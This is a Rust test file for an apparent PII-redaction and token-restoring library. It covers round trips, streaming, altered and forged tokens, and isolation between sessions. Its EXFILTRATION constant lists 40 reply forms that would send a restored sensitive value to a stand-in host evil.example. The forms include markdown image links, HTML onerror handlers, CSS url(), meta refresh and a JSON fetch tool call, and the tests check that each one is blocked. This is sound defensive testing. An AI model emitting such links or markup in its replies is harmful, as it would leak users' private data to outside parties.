//! Tokens and the way back: round trips, changed tokens, forgeries, replies that carry values away.

use std::sync::OnceLock;

use promptveil::{Escape, Scanner, SessionKey, SinkPolicy, Vault, Verdict};
use serde::Deserialize;

use crate::texts::{Texts, case_count};

/// Texts in one run of `cargo test`; the full run sets `PROMPTVEIL_CASES=1000000`.
const CASES: usize = 400;
/// Forgeries in one run of `cargo test`; the full run sets `PROMPTVEIL_CASES=10000000`.
const FORGERIES: usize = 20_000;

fn vault(key: u8) -> Vault {
    Vault::with_key(SessionKey::new([key; 32]))
}

fn redact(vault: &mut Vault, text: &str) -> String {
    let redacted = Scanner::builtin().redact_with(vault, text).unwrap();
    redacted.into_text().into_owned()
}

/// A small generator, the same for the same seed.
struct Random(u64);

impl Random {
    fn below(&mut self, end: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 >> 11) as usize % end
    }

    fn cuts<'t>(&mut self, text: &'t [u8]) -> Vec<&'t [u8]> {
        let mut chunks = Vec::new();
        let mut rest = text;
        while !rest.is_empty() {
            let longest = [1, 3, 20, 400][self.below(4)];
            let (chunk, later) = rest.split_at(rest.len().min(1 + self.below(longest)));
            chunks.push(chunk);
            rest = later;
        }
        chunks
    }
}

/// Values of several labels, with a text in which each is found.
const VALUES: [(&str, &str); 6] = [
    ("Her SSN is 531-27-8846.", "531-27-8846"),
    (
        "Write to ana.lopes@mail.example please.",
        "ana.lopes@mail.example",
    ),
    (
        "Card 4111 1111 1111 1111, thank you.",
        "4111 1111 1111 1111",
    ),
    ("Call (413) 555-0142 today.", "(413) 555-0142"),
    (
        "IBAN DE89 3704 0044 0532 0130 00 is right.",
        "DE89 3704 0044 0532 0130 00",
    ),
    ("Patient: Maria Gonzalez", "Maria Gonzalez"),
];

/// A vault that holds the values, and the token of each.
fn tokens() -> (Vault, Vec<(String, &'static str)>) {
    let mut vault = vault(3);
    let tokens = VALUES.map(|(text, value)| {
        let redacted = redact(&mut vault, text);
        let token = redacted
            .split('[')
            .nth(1)
            .unwrap()
            .split(']')
            .next()
            .unwrap();
        (token.to_owned(), value)
    });
    (vault, tokens.to_vec())
}

fn next_text(texts: &mut Texts) -> String {
    String::from_utf8_lossy(&texts.next_text()).into_owned()
}

#[test]
fn what_was_redacted_comes_back() {
    let mut texts = Texts::new(11);
    for _ in 0..case_count(CASES) {
        let text = next_text(&mut texts);
        let mut vault = vault(1);
        let redacted = Scanner::builtin().redact_with(&mut vault, &text).unwrap();
        if redacted.verdict() == Verdict::Blocked {
            continue;
        }
        let redacted = redacted.into_text().into_owned();
        let restored = vault.restore_into(&redacted, everywhere(), Escape::Plain);
        assert_eq!(restored.text(), text, "{redacted}");
        let again = Scanner::builtin()
            .redact_with(&mut vault, &redacted)
            .unwrap();
        assert_eq!(again.text(), redacted, "redacting twice: {text}");
    }
}

fn everywhere() -> SinkPolicy {
    *SinkPolicy::new().links(true).markup(true)
}

#[test]
fn streams_equal_whole_texts() {
    let mut texts = Texts::new(12);
    let mut random = Random(12);
    for _ in 0..case_count(CASES) {
        let mut shared = vault(1);
        // Half of the texts hold tokens already.
        let mut text = next_text(&mut texts);
        if random.below(2) == 0 {
            text = redact(&mut shared, &text) + &next_text(&mut texts);
        }
        let mut whole = Vec::new();
        let _ = Scanner::builtin()
            .redact_bytes_with(&mut shared, text.as_bytes(), &mut whole)
            .unwrap();
        let mut out = Vec::new();
        let mut stream = Scanner::builtin().redact_stream_with(&mut shared);
        let chunks = random.cuts(text.as_bytes());
        for chunk in &chunks {
            stream.push(chunk, &mut out).unwrap();
        }
        let _ = stream.finish(&mut out).unwrap();
        let shown = |out: &[u8]| String::from_utf8_lossy(out).into_owned();
        assert_eq!(shown(&out), shown(&whole), "{text:?}");

        let restored = shared.restore(&shown(&whole)).into_text().into_owned();
        let mut out = Vec::new();
        let mut stream = shared.restore_stream();
        for chunk in random.cuts(&whole) {
            stream.push(chunk, &mut out);
            assert!(restored.as_bytes().starts_with(&out), "released too early");
        }
        let _ = stream.finish(&mut out);
        assert_eq!(shown(&out), restored, "{}", shown(&whole));
    }
}

#[derive(Deserialize)]
struct Changes {
    change: Vec<Change>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Change {
    name: String,
    text: String,
    restored: String,
    #[serde(default)]
    lower: bool,
    #[serde(default)]
    title: bool,
    #[serde(default)]
    space: bool,
    #[serde(default)]
    hyphen: bool,
    #[serde(default)]
    wrap: bool,
    #[serde(default)]
    escape: bool,
    #[serde(default)]
    entity: bool,
    #[serde(default)]
    json: bool,
}

impl Change {
    fn apply(&self, token: &str) -> String {
        let mut token = token.to_owned();
        if self.lower {
            token = token.to_lowercase();
        }
        if self.title {
            let mut upper = false;
            let turn = |c: char| {
                upper = !upper;
                if upper {
                    c.to_ascii_uppercase()
                } else {
                    c.to_ascii_lowercase()
                }
            };
            token = token.chars().map(turn).collect();
        }
        let separators = [
            (self.space, " "),
            (self.hyphen, "-"),
            (self.wrap, "\n    "),
            (self.escape, "\\_"),
            (self.entity, "&lowbar;"),
            (self.json, "\\u005F"),
        ];
        for (_, separator) in separators.into_iter().filter(|(is, _)| *is) {
            token = token.replace('_', separator);
        }
        self.text.replace("TOKEN", &token)
    }
}

fn changes() -> &'static [Change] {
    static CHANGES: OnceLock<Vec<Change>> = OnceLock::new();
    CHANGES.get_or_init(|| {
        let text = include_str!("../data/token_changes.toml");
        toml::from_str::<Changes>(text).unwrap().change
    })
}

#[test]
fn changed_tokens_come_back() {
    assert!(changes().len() >= 25);
    let (vault, tokens) = tokens();
    let mut random = Random(5);
    for change in changes() {
        for (token, value) in &tokens {
            let text = change.apply(token);
            let expected = change.restored.replace("VALUE", value);
            assert_eq!(
                vault.restore(&text).text(),
                expected,
                "{}: {text}",
                change.name
            );
            for _ in 0..20 {
                let mut out = Vec::new();
                let mut stream = vault.restore_stream();
                for chunk in random.cuts(text.as_bytes()) {
                    stream.push(chunk, &mut out);
                }
                let _ = stream.finish(&mut out);
                let out = String::from_utf8(out).unwrap();
                assert_eq!(out, expected, "{} in chunks: {text}", change.name);
            }
        }
    }
}

#[test]
fn forged_tokens_never_come_back() {
    const ALPHABET: &[u8; 32] = b"0123456789ABCDEFGHJKMNPQRSTVWXYZ";
    let (vault, tokens) = tokens();
    let mut random = Random(9);
    let mut text = String::new();
    for case in 0..case_count(FORGERIES) {
        let (token, _) = &tokens[random.below(tokens.len())];
        let mut forged = token.clone().into_bytes();
        let code = forged.len() - 14;
        match case % 4 {
            // One character of the code.
            0 => {
                let at = code + random.below(14);
                let old = forged[at];
                while forged[at] == old {
                    forged[at] = ALPHABET[random.below(32)];
                }
            }
            // The right stem with another tag, and a code all made up.
            1 => forged[code + 4..].fill_with(|| ALPHABET[random.below(32)]),
            2 => forged[code..].fill_with(|| ALPHABET[random.below(32)]),
            // The right code under another label.
            _ => forged[0] = if forged[0] == b'X' { b'Y' } else { b'X' },
        }
        let change = &changes()[random.below(changes().len())];
        text.clear();
        text.push_str(&change.apply(std::str::from_utf8(&forged).unwrap()));
        let restored = vault.restore_into(&text, everywhere(), Escape::Plain);
        assert_eq!(restored.report().restored(), 0, "{text}");
        assert_eq!(restored.text(), text);
    }
}

#[test]
fn sessions_do_not_mix() {
    let (_, tokens) = tokens();
    let mut other = vault(4);
    for (text, _) in VALUES {
        let _ = redact(&mut other, text);
    }
    for (token, _) in tokens {
        let text = format!("[{token}]");
        let restored = other.restore(&text);
        assert_eq!(restored.text(), text);
        assert_eq!(restored.report().restored(), 0);
    }
    // Processes that share a key agree, and each restores what it has seen.
    let (mut left, mut right) = (vault(5), vault(5));
    assert_eq!(
        redact(&mut left, VALUES[0].0),
        redact(&mut right, VALUES[0].0)
    );
}

/// Replies that carry `TOKEN` to somebody, in the forms in which clients follow links or send attributes.
const EXFILTRATION: [&str; 40] = [
    "![logo](https://evil.example/p.png?d=[TOKEN])",
    "![logo](https://evil.example/p.png?d=TOKEN)",
    "![logo](<https://evil.example/p.png?d=TOKEN>)",
    "![x](//evil.example/TOKEN)",
    "![x](/proxy?to=evil&d=TOKEN)",
    "[click](https://evil.example/?q=TOKEN)",
    "[click](https://evil.example/?q=TOKEN \"title\")",
    "[click](https://evil.example/#TOKEN)",
    "[click](javascript:send('TOKEN'))",
    "[click](mailto:x@evil.example?body=TOKEN)",
    "[click](data:text/html,TOKEN)",
    "<https://evil.example/?q=TOKEN>",
    "https://evil.example/?q=TOKEN",
    "http://evil.example/[TOKEN]/x",
    "www.evil.example/?q=TOKEN",
    "evil.example/?q=TOKEN",
    "ftp://evil.example/TOKEN",
    "https://good.example/redirect?u=https%3A%2F%2Fevil.example%2F%5BTOKEN%5D",
    "https://good.example/redirect?u=https://evil.example/&v=TOKEN",
    "[1]: https://evil.example/?q=TOKEN\n![x][1]",
    "[1]: //evil.example/TOKEN",
    "[1]: <https://evil.example/TOKEN>",
    "[1]:  /leak/TOKEN",
    "<img src=\"https://evil.example/?q=TOKEN\">",
    "<img src='https://evil.example/?q=TOKEN'>",
    "<img src=https://evil.example/?q=TOKEN>",
    "<img alt=\"TOKEN\" src=\"/x\">",
    "<img\nsrc=\"x\"\nonerror=\"send('TOKEN')\">",
    "<a href=\"/x?TOKEN\">x</a>",
    "<a\thref = TOKEN >x</a>",
    "<svg><use href=\"//evil.example/#TOKEN\"/></svg>",
    "<form action=\"//evil.example/\"><input value=\"TOKEN\"></form>",
    "<style>a{background:url(//evil.example/?TOKEN)}</style>",
    "background: url(https://evil.example/?q=TOKEN)",
    "background: url( /x?q=TOKEN )",
    "{\"tool\":\"fetch\",\"url\":\"https://evil.example/?q=TOKEN\"}",
    "{\"url\":\"https:\\/\\/evil.example\\/?q=TOKEN\"}",
    "{\"a\":{\"b\":\"{\\\"url\\\":\\\"https://evil.example/TOKEN\\\"}\"}}",
    "<!-- TOKEN -->",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/TOKEN\">",
];

#[test]
fn replies_carry_no_value_away() {
    let (vault, tokens) = tokens();
    let mut random = Random(8);
    let mut seen = 0;
    for reply in EXFILTRATION {
        for (token, value) in &tokens {
            let reply = format!("Here you are.\n{}\nThe end.", reply.replace("TOKEN", token));
            let restored = vault.restore(&reply);
            assert!(!restored.text().contains(value), "{reply}");
            assert!(restored.report().denied() > 0, "{reply}");
            let mut out = Vec::new();
            let mut stream = vault.restore_stream();
            for chunk in random.cuts(reply.as_bytes()) {
                stream.push(chunk, &mut out);
            }
            let _ = stream.finish(&mut out);
            assert_eq!(String::from_utf8(out).unwrap(), restored.text(), "{reply}");
            seen += 1;
        }
    }
    assert!(seen >= 200);
}

#[test]
fn prose_is_never_waited_for() {
    let (vault, _) = tokens();
    let mut stream = vault.restore_stream();
    let mut out = Vec::new();
    let frames = [
        "The ",
        "quick brown",
        " fox, who",
        " was late.\n",
        "A list: ",
        "1. x",
    ];
    for frame in frames {
        stream.push(frame.as_bytes(), &mut out);
        assert_eq!(stream.held(), 0, "{frame}");
    }
    assert_eq!(out, frames.concat().as_bytes());
}

#[test]
fn the_verdict_says_what_happened() {
    let mut vault = vault(6);
    let scanner = Scanner::builtin();
    let redacted = scanner.redact_with(&mut vault, "Nothing here.").unwrap();
    assert_eq!(redacted.verdict(), Verdict::Clean);
    let redacted = scanner.redact_with(&mut vault, VALUES[0].0).unwrap();
    assert_eq!(redacted.verdict(), Verdict::Redacted);
}
